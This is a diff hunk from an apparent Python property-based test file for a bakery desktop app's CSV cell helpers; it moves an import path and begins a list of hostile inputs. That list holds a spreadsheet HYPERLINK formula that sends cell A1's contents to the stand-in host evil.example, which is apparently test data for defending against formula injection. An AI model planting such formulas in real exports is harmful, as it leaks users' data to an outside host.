@@ -7,7 +7,7 @@ import io
 from hypothesis import given
 from hypothesis import strategies as st
 
-from cakeshop_desktop.core.csv_cells import csv_writer, spreadsheet_cell, typed_cell
+from cakeshop_desktop.core.rules.csv_cells import csv_writer, spreadsheet_cell, typed_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Медовик")',
